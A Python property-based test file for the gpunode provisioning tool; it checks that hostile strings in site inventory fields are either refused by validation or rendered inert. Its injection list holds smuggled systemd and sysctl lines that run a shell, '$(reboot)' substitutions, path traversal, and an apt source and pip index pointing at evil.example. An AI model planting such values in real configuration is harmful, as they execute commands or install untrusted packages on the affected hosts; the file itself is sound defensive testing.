"""Property-based: a hostile string in ANY string field of a site (newlines, quotes, $(),
backticks, ;, Jinja, NUL, very long values) is either refused by validation (a SiteError
naming that field, never a traceback) or lands inert in everything gpunode writes: no file
gains a line, a unit directive, an environment variable, a sysctl key or a YAML key, and the
shell commands keep their argument count. Seeded and bounded (runs in make test-fast)."""

from __future__ import annotations

import copy
import shlex
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gpunode.core.files import node_files
from gpunode.core.hostcmd import user_command, venv_command
from gpunode.core.topology import Gpu
from gpunode.inventory import SiteError, load_site
from gpunode.model.profile import FROM_LOCK

REPO = Path(__file__).resolve().parents[2]
EXAMPLES = REPO / "inventory" / "examples"

#: Optional string fields left unset by the examples: given a valid value first, so the
#: hostile one replaces a string.
OPTIONAL = {("connection", "key"): "~/.ssh/id_ed25519",
            ("vllm", "index_url"): "http://10.0.2.2:18087/pypi/simple/",
            ("nvidia", "keyring_sha256"): "0" * 64,
            ("nvidia", "version"): "580.95.05"}

INJECTIONS = ["\nExecStartPre=+/bin/sh -c reboot", "\nkernel.core_pattern = |/bin/sh",
              "\ndeb [trusted=yes] http://evil.example/ /", "; reboot #", "$(reboot)",
              "`reboot`", "' ; reboot ; '", '" ; reboot ; "', "{{ lookup('env','HOME') }}",
              "{% for x in range(3) %}x{% endfor %}", "\x00", "\r\nX=1", "\\\nX=1", "%i%n$X",
              " --index-url http://evil.example/", "\u2028X=1", "a" * 5000, "../../etc",
              "\tX", "#", "=", "", " "]

hostile = (st.sampled_from(INJECTIONS)
           | st.text(alphabet=st.sampled_from(list("\n\r\t\x00 ;$`'\"\\{}%#=|&<>()*?[]~/.:-_aZ9é")),
                     min_size=1, max_size=40))


def string_fields(data: Any, loc: tuple = ()) -> list[tuple]:
    """Locations of every string value (and free-form map key) in a node's data."""
    out: list[tuple] = []
    if isinstance(data, str):
        out.append(loc)
    elif isinstance(data, dict):
        for key, value in data.items():
            if loc and loc[-1] in ("sysctl", "extra_args", "extra_env"):
                out.append((*loc, ("key", key)))
            out.extend(string_fields(value, (*loc, key)))
    elif isinstance(data, list):
        for i, value in enumerate(data):
            out.extend(string_fields(value, (*loc, i)))
    return out


def base_nodes() -> dict[str, dict[str, Any]]:
    """Fully resolved nodes of the examples, as single-node layers, with optional string
    fields set and a free-form value in each service's extra_env/extra_args."""
    nodes = {}
    for example, names in (("bare-metal.yaml", ["gpu01"]), ("proxmox.yaml", ["pve1", "gpuvm1"])):
        site = load_site(EXAMPLES / example)
        for name in names:
            data = site.nodes[name].model_dump(mode="json", exclude_none=True,
                                               exclude=set(FROM_LOCK))  # not site keys
            data["groups"] = []  # resolved already
            for (section, key), value in OPTIONAL.items():
                data.setdefault(section, {}).setdefault(key, value)
            for svc in data.get("vllm", {}).get("services", []):
                svc["extra_env"] = {"GPUNODE_NOTE": "x"}
                svc["extra_args"] = {"chat-template": "x"}
            nodes[f"{example}:{name}"] = data
    return nodes


BASES = base_nodes()
FIELDS = sorted({(base, loc) for base, data in BASES.items() for loc in string_fields(data)},
                key=repr)


def site_doc(base: str, node: dict[str, Any]) -> dict[str, Any]:
    """The node as a one-node site (proxmox guests keep their host for cross-references)."""
    doc = {"nodes": {node["name"]: {k: v for k, v in node.items() if k != "name"}}}
    if node.get("kind") == "pve-guest":
        host = BASES["proxmox.yaml:pve1"]
        doc["nodes"]["pve1"] = {k: v for k, v in host.items() if k != "name"}
    return doc


def put(data: dict[str, Any], loc: tuple, value: str) -> str:
    """Write value at loc (or rename the free-form key); returns the field path reported."""
    *parents, last = loc
    target: Any = data
    for part in parents:
        target = target[part]
    path = "".join(f"[{p}]" if isinstance(p, int) else f".{p}" for p in parents)
    if isinstance(last, tuple):  # a free-form map key
        old = last[1]
        target[value] = target.pop(old)
        return path.lstrip(".")
    target[last] = target[last] + value if value and value[0] in "\n;$`'\"{\\%\r" else value
    return (path + (f"[{last}]" if isinstance(last, int) else f".{last}")).lstrip(".")


def gpus_for(p: Any) -> list[Gpu]:
    count = max([p.gpus.count, *(g + 1 for s in p.vllm.services for g in s.gpus), 1]) + 1
    return [Gpu(index=i, uuid=f"GPU-{i:08x}-0000-0000-0000-000000000000", name="sim",
                bus_id=f"00000000:{0x41 + i:02X}:00.0", memory_mib=49140,
                driver_version="580.95.05", cpus=[2 * i, 2 * i + 1], numa_node=i % 2)
            for i in range(count)]


def shape(path: str, text: str) -> Any:
    """What a hostile value must not change in a rendered file: YAML files their key
    structure, others their lines and the keys/directives those lines set."""
    if path.endswith(".yaml") or path.endswith(".json"):
        def keys(value: Any) -> Any:
            if isinstance(value, dict):
                return {k: keys(v) for k, v in value.items()}
            if isinstance(value, list):
                return [keys(v) for v in value]
            return type(value).__name__
        return keys(yaml.safe_load(text))
    lines = text.split("\n")
    heads = [ln.split("=", 1)[0].strip() if "=" in ln else ln[:1] for ln in lines]
    return len(lines), heads


def rendered(profile: Any) -> dict[str, Any]:
    """Shapes by position (a valid new service name renames its files, harmlessly)."""
    files = node_files(profile, gpus_for(profile))
    out: dict[str, Any] = {f"file {i} ({f.template})": shape(f.path, f.content)
                           for i, f in enumerate(files)}
    out["paths"] = [len(f.path.split("/")) for f in files]
    if profile.vllm.services:
        out["venv_command"] = len(shlex.split(venv_command(profile)))
        out["user_command"] = len(shlex.split(user_command(profile)))
    return out


def renamed(shapes: Any, new: str, old: str) -> Any:
    """Shapes with map key `new` read as `old`, and each file's line heads in sorted order
    (files list such keys sorted, so a renamed key may move)."""
    if isinstance(shapes, dict):
        return {(old if k == new else k): renamed(v, new, old) for k, v in shapes.items()}
    if isinstance(shapes, tuple) and len(shapes) == 2 and isinstance(shapes[1], list):
        return shapes[0], sorted(old if h == new else h for h in shapes[1])
    if isinstance(shapes, list):
        return [renamed(v, new, old) for v in shapes]
    return shapes


BASELINE: dict[str, dict[str, Any]] = {}


def baseline(base: str, tmp: Path) -> dict[str, Any]:
    if base not in BASELINE:
        path = tmp / "baseline.yaml"
        path.write_text(yaml.safe_dump(site_doc(base, BASES[base])))
        node = BASES[base]["name"]
        BASELINE[base] = rendered(load_site(path).nodes[node])
    return BASELINE[base]


@pytest.fixture(scope="module")
def workdir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("hostile")


@settings(max_examples=400, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(field=st.sampled_from(FIELDS), value=hostile)
def test_hostile_string_is_refused_or_inert(workdir: Path, field: tuple, value: str) -> None:
    base, loc = field
    node = copy.deepcopy(BASES[base])
    reported = put(node, loc, value)
    path = workdir / "site.yaml"
    path.write_text(yaml.safe_dump(site_doc(base, node), allow_unicode=True))
    name = node["name"]
    try:
        site = load_site(path)
    except SiteError as exc:
        assert all(ln.startswith(str(path)) for ln in exc.lines), exc.lines
        assert any(f" nodes.{name}.{reported}" in ln for ln in exc.lines), (reported, exc.lines)
        return
    got = rendered(site.nodes[name])
    want = baseline(base, workdir)
    if isinstance(loc[-1], tuple):  # a valid new map key is itself a line's key: as the old
        got, want = (renamed(x, value, loc[-1][1]) for x in (got, want))
    assert got.keys() == want.keys(), (reported, value)
    for key in want:
        assert got[key] == want[key], f"{reported}={value!r} changed the shape of {key}"


def test_every_string_field_is_covered() -> None:
    covered = {loc[:2] if len(loc) > 1 else loc for _, loc in FIELDS}
    for section in ("connection", "vllm", "nvidia", "container_toolkit", "vm", "pve", "tuning",
                    "gpus"):
        assert any(c[0] == section for c in covered), section
    assert len(FIELDS) > 60, len(FIELDS)


def test_non_utf8_site_is_refused(workdir: Path) -> None:
    path = workdir / "latin1.yaml"
    path.write_bytes(b"nodes:\n  gpu01:\n    connection: {address: h\xe9}\n")
    with pytest.raises(SiteError) as info:
        load_site(path)
    assert info.value.lines[0].startswith(f"{path}: cannot read")
